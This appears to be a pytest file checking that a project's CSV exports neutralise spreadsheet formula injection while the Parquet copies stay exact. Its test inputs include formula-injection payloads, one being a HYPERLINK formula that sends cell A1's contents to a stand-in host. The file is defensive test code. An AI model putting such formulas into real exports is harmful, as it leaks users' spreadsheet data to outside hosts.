"""CSV exports neutralise formula cells: a post's text cannot run as a formula in a spreadsheet."""

from __future__ import annotations

import io

import pandas as pd

from harmwatch.data.exports import spreadsheet_csv
from harmwatch.data.snapshot_writer import write_files
from harmwatch.storage import open_store

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "plain", ""]


def test_formula_cells_get_an_apostrophe_and_nothing_else_changes():
    frame = pd.DataFrame({"text": HOSTILE, "votes": range(len(HOSTILE))})
    back = pd.read_csv(io.StringIO(spreadsheet_csv(frame)), keep_default_na=False)
    assert back["text"].tolist()[:5] == ["'" + t for t in HOSTILE[:5]]
    assert back["text"].tolist()[5:] == ["plain", ""] and back["votes"].tolist() == list(range(len(HOSTILE)))
    assert frame["text"].tolist() == HOSTILE  # the caller's frame (and the Parquet beside it) stays exact


def test_the_review_queue_csv_is_neutralised_and_its_parquet_exact(tmp_path):
    store = open_store(str(tmp_path / "lake"))
    queue = pd.DataFrame({"text": HOSTILE, "reason": "conflict"})
    write_files(store, "review/v=1", {"queue.parquet": queue, "queue.csv": queue}, {"version": "1"})
    csv_text = (tmp_path / "lake" / "review" / "v=1" / "queue.csv").read_text()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in csv_text.splitlines())
    assert store.read_parquet("review/v=1/queue.parquet")["text"].tolist() == HOSTILE


def test_the_csv_reads_back_cell_for_cell_line_breaks_and_quotes_included():
    frame = pd.DataFrame(
        {
            "text": ['two\r\nlines, "quoted"', "new\nline", "plain", None],
            "score": [0.5, float("nan"), 1.0, 2.25],
            "n": [1, 2, 3, 4],
        }
    )
    back = pd.read_csv(io.BytesIO(spreadsheet_csv(frame).encode("utf-8")), keep_default_na=False, dtype=str)
    assert back["text"].tolist() == ['two\r\nlines, "quoted"', "new\nline", "plain", ""]
    assert back["score"].tolist() == ["0.5", "", "1.0", "2.25"] and back["n"].tolist() == ["1", "2", "3", "4"]
